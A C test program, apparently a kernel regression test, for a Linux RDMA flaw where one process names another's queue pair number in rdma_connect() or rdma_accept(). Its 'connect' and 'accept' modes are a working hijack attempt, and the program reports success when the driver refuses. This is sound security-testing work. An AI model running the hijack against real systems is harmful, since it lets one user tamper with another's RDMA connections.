// SPDX-License-Identifier: GPL-2.0
/*
 * qp_hijack: one process names another process's QP by number in rdma_connect() or
 * rdma_accept() (rdma_conn_param.qp_num, which ucma passes to the driver unchecked).
 *
 *   qp_hijack server ADDR PORT          accept one connection, echo one message, exit
 *   qp_hijack victim ADDR PORT FIFO     make a QP, print "qpn N", wait for a line on FIFO,
 *                                       then connect to ADDR PORT with it, send 4 KiB of
 *                                       a pattern and check the echo byte for byte
 *   qp_hijack connect ADDR PORT QPN     connect with QP number QPN, no QP of its own
 *   qp_hijack accept ADDR PORT QPN      listen, accept the first request with QPN
 *   qp_hijack client ADDR PORT          connect with a QP of its own and expect nothing
 *                                       but a refusal (the peer's accept fails)
 *
 * connect and accept print "refused: ERRNO" when the driver refuses the number and exit
 * 0 then, 1 when it takes it (the hijack worked). victim, server and client exit 0 only
 * if everything they expect happened.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <rdma/rdma_cma.h>
#include <rdma/rdma_verbs.h>

#define LEN 4096

static struct rdma_event_channel *ch;

static void die(const char *what)
{
	fprintf(stderr, "qp_hijack: %s: %s\n", what, strerror(errno));
	exit(2);
}

static struct rdma_cm_event *expect(enum rdma_cm_event_type want)
{
	struct rdma_cm_event *ev;

	if (rdma_get_cm_event(ch, &ev))
		die("rdma_get_cm_event");
	if (ev->event != want) {
		fprintf(stderr, "qp_hijack: event %s (status %d), expected %s\n",
			rdma_event_str(ev->event), ev->status, rdma_event_str(want));
		exit(2);
	}
	return ev;
}

static struct addrinfo *addr(const char *host, const char *port)
{
	struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM }, *ai;

	if (getaddrinfo(host, port, &hints, &ai))
		die("getaddrinfo");
	return ai;
}

static struct rdma_cm_id *new_id(void)
{
	struct rdma_cm_id *id;

	if (rdma_create_id(ch, &id, NULL, RDMA_PS_TCP))
		die("rdma_create_id");
	return id;
}

/* An active cm_id with its route resolved. */
static struct rdma_cm_id *route(const char *host, const char *port)
{
	struct addrinfo *ai = addr(host, port);
	struct rdma_cm_id *id = new_id();

	if (rdma_resolve_addr(id, NULL, ai->ai_addr, 2000))
		die("rdma_resolve_addr");
	rdma_ack_cm_event(expect(RDMA_CM_EVENT_ADDR_RESOLVED));
	if (rdma_resolve_route(id, 2000))
		die("rdma_resolve_route");
	rdma_ack_cm_event(expect(RDMA_CM_EVENT_ROUTE_RESOLVED));
	freeaddrinfo(ai);
	return id;
}

static struct rdma_cm_id *listen_on(const char *host, const char *port)
{
	struct addrinfo *ai = addr(host, port);
	struct rdma_cm_id *id = new_id();

	if (rdma_bind_addr(id, ai->ai_addr) || rdma_listen(id, 1))
		die("rdma_bind_addr/listen");
	freeaddrinfo(ai);
	return id;
}

static void make_qp(struct rdma_cm_id *id)
{
	struct ibv_qp_init_attr a = {
		.cap = { .max_send_wr = 4, .max_recv_wr = 4, .max_send_sge = 1,
			 .max_recv_sge = 1 },
		.qp_type = IBV_QPT_RC,
		.sq_sig_all = 1,
	};

	if (rdma_create_qp(id, NULL, &a))
		die("rdma_create_qp");
}

static void fill(unsigned char *b)
{
	for (int i = 0; i < LEN; i++)
		b[i] = (unsigned char)(i * 7 + 3);
}

static int server(const char *host, const char *port)
{
	struct rdma_cm_id *l = listen_on(host, port), *id;
	struct rdma_cm_event *ev = expect(RDMA_CM_EVENT_CONNECT_REQUEST);
	static unsigned char buf[LEN];
	struct ibv_mr *mr;
	struct ibv_wc wc;

	id = ev->id;
	rdma_ack_cm_event(ev);
	make_qp(id);
	if (!(mr = rdma_reg_msgs(id, buf, LEN)))
		die("rdma_reg_msgs");
	if (rdma_post_recv(id, NULL, buf, LEN, mr))
		die("rdma_post_recv");
	if (rdma_accept(id, NULL))
		die("rdma_accept");
	rdma_ack_cm_event(expect(RDMA_CM_EVENT_ESTABLISHED));
	if (rdma_get_recv_comp(id, &wc) != 1 || wc.status != IBV_WC_SUCCESS || wc.byte_len != LEN) {
		fprintf(stderr, "qp_hijack: server receive failed\n");
		return 1;
	}
	if (rdma_post_send(id, NULL, buf, LEN, mr, 0) || rdma_get_send_comp(id, &wc) != 1 ||
	    wc.status != IBV_WC_SUCCESS) {
		fprintf(stderr, "qp_hijack: server send failed\n");
		return 1;
	}
	rdma_ack_cm_event(expect(RDMA_CM_EVENT_DISCONNECTED));
	rdma_disconnect(id);
	printf("server: echoed %d bytes\n", LEN);
	(void)l;
	return 0;
}

static int victim(const char *host, const char *port, const char *fifo)
{
	struct rdma_cm_id *id = route(host, port);
	static unsigned char out[LEN], in[LEN];
	struct ibv_mr *mo, *mi;
	struct ibv_wc wc;
	char line[16];
	FILE *f;

	make_qp(id);
	printf("qpn %u\n", id->qp->qp_num);
	fflush(stdout);
	if (!(f = fopen(fifo, "r")) || !fgets(line, sizeof(line), f))
		die("waiting on the fifo");
	fill(out);
	if (!(mo = rdma_reg_msgs(id, out, LEN)) || !(mi = rdma_reg_msgs(id, in, LEN)))
		die("rdma_reg_msgs");
	if (rdma_post_recv(id, NULL, in, LEN, mi))
		die("rdma_post_recv");
	if (rdma_connect(id, NULL))
		die("rdma_connect (the victim's own)");
	rdma_ack_cm_event(expect(RDMA_CM_EVENT_ESTABLISHED));
	if (rdma_post_send(id, NULL, out, LEN, mo, 0) || rdma_get_send_comp(id, &wc) != 1 ||
	    wc.status != IBV_WC_SUCCESS)
		die("victim send");
	if (rdma_get_recv_comp(id, &wc) != 1 || wc.status != IBV_WC_SUCCESS || wc.byte_len != LEN)
		die("victim receive");
	if (memcmp(in, out, LEN)) {
		fprintf(stderr, "qp_hijack: the echo differs\n");
		return 1;
	}
	rdma_disconnect(id);
	printf("victim: %d bytes echoed, checked\n", LEN);
	return 0;
}

static int refused(const char *what, int r)
{
	if (r == 0) {
		printf("%s: taken (the hijack worked)\n", what);
		return 1;
	}
	printf("refused: %s\n", strerror(errno));
	return 0;
}

static int hijack_connect(const char *host, const char *port, unsigned qpn)
{
	struct rdma_cm_id *id = route(host, port);
	struct rdma_conn_param p = { .qp_num = qpn, .responder_resources = 1,
				     .initiator_depth = 1 };

	return refused("connect", rdma_connect(id, &p));
}

static int hijack_accept(const char *host, const char *port, unsigned qpn)
{
	struct rdma_cm_id *l = listen_on(host, port);
	struct rdma_cm_event *ev = expect(RDMA_CM_EVENT_CONNECT_REQUEST);
	struct rdma_conn_param p = { .qp_num = qpn, .responder_resources = 1,
				     .initiator_depth = 1 };
	struct rdma_cm_id *id = ev->id;

	rdma_ack_cm_event(ev);
	(void)l;
	return refused("accept", rdma_accept(id, &p));
}

static int client(const char *host, const char *port)
{
	struct rdma_cm_id *id = route(host, port);
	struct rdma_cm_event *ev;

	make_qp(id);
	if (rdma_connect(id, NULL))
		die("rdma_connect");
	if (rdma_get_cm_event(ch, &ev))
		die("rdma_get_cm_event");
	printf("client: %s\n", rdma_event_str(ev->event));
	return ev->event == RDMA_CM_EVENT_ESTABLISHED;
}

int main(int argc, char **argv)
{
	if (argc < 4)
		goto usage;
	if (!(ch = rdma_create_event_channel()))
		die("rdma_create_event_channel");
	if (!strcmp(argv[1], "server"))
		return server(argv[2], argv[3]);
	if (!strcmp(argv[1], "client"))
		return client(argv[2], argv[3]);
	if (argc < 5)
		goto usage;
	if (!strcmp(argv[1], "victim"))
		return victim(argv[2], argv[3], argv[4]);
	if (!strcmp(argv[1], "connect"))
		return hijack_connect(argv[2], argv[3], strtoul(argv[4], NULL, 0));
	if (!strcmp(argv[1], "accept"))
		return hijack_accept(argv[2], argv[3], strtoul(argv[4], NULL, 0));
usage:
	fprintf(stderr, "usage: qp_hijack server|client ADDR PORT | victim ADDR PORT FIFO |"
			" connect|accept ADDR PORT QPN\n");
	return 2;
}
